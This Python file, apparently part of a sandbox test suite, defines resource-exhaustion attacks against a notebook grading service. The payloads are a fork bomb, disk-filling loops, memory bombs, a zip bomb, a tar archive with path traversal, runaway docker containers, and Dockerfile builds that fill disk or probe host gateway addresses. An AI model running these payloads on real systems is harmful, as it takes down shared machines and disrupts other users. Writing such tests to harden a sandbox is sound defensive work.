"""Use up what a machine has: each in its own submission, because it disturbs the others."""
# ruff: noqa: E501  (attackers' scripts are no prettier when they are wrapped)

from __future__ import annotations

from attacks.attack import Attack, Raid, shell

HARM = (
    Raid(
        "fill",
        quick=True,
        attacks=(
            Attack("more memory than there is", shell("python -c 'x = bytearray(12_000_000_000)'"), "code=137"),
            Attack("full disks", shell("for d in /work /tmp /home/learner /run/kernel /dev/shm; do "
                                       "timeout 8 head -c 2G /dev/zero > $d/fill; rm -f $d/fill; done"),
                   "(?s)(No space left.*){3}"),
            Attack("the engine's disk filled", shell("docker run --rm python:3.11-slim sh -c "
                                                     "'head -c 4G /dev/zero > /x'", 30), r"(No space left|code=1\b)"),
            Attack("a file of 1 TB with nothing in it", "open('hole', 'wb').truncate(2**40)\nprint('made')", "made"),
            Attack("more files than anybody needs",
                   "import os\nos.mkdir('many')\nfor n in range(15_000):\n    open(f'many/{n}', 'w').close()\nprint('made')",
                   "made"),
            Attack("a tar bomb and a zip bomb",
                   "import zipfile, tarfile, io\nwith zipfile.ZipFile('bomb.zip', 'w', 8) as z:\n"
                   "    z.writestr('x', bytes(300_000_000))\n"
                   "with tarfile.open('bomb.tar.gz', 'w:gz') as t:\n    i = tarfile.TarInfo('../../../x'); i.size = 200_000_000\n"
                   "    t.addfile(i, io.BytesIO(bytes(200_000_000)))\nprint('packed')", "packed"),
            Attack("output without end",
                   "import time\nend = time.time() + 8\nwhile time.time() < end:\n    print('x' * 1_000_000)",
                   "The grader keeps"),
            Attack("one output of 200 MB",
                   "from IPython.display import display\ndisplay({'text/plain': 'x' * 200_000_000}, raw=True)\nprint('out')",
                   ""),
        ),
    ),
    Raid("fork-bomb", (Attack("a fork bomb", shell("bomb() { bomb | bomb & }; bomb; sleep 5", 10), ""),), shaky=True),
    Raid("eat-slowly", (Attack("the kernel's own memory", "x = []\nwhile True:\n    x.append(bytearray(50_000_000))", ""),),
         shaky=True, said="The kernel stopped|memory"),
    Raid("many-containers", (Attack(
        "containers until nothing is left",
        shell("for n in $(seq 60); do timeout 5 docker run -d --restart=always python:3.11-slim "
              "sh -c 'while :; do :; done' & done; wait; docker ps -q | wc -l"), "code="),), shaky=True),
)  # fmt: skip

STEP = "FROM python:3.11-slim\nRUN {}\n"
BUILDS = (
    Raid("build-fills", (Attack("a build that fills the judge's disk", aims=("image_builds",)),),
         answers={"dockerfile": "%%writefile app/Dockerfile\n" + STEP.format("head -c 6G /dev/zero > /x")},
         shaky=True),
    Raid("build-forks", (Attack("a build with a fork bomb", aims=("image_builds",)),),
         answers={"dockerfile": "%%writefile app/Dockerfile\n"
                  + STEP.format("bash -c 'b() { b | b & }; b; sleep 15'; exit 1")}, shaky=True),
    Raid("build-asks", (Attack("a build that asks the host and the internet", aims=("image_builds",)),),
         answers={"dockerfile": "%%writefile app/Dockerfile\n" + STEP.format(
             "python -c 'import urllib.request as u; "
             "[print(u.urlopen(\"http://%s:@PORT@\" % a, timeout=2).read()) for a in (\"10.0.2.2\", \"172.17.0.1\")]'")
             + "ADD http://172.17.0.1:@PORT@/ /got\n"}),
)  # fmt: skip
RAIDS = (*HARM, *BUILDS)
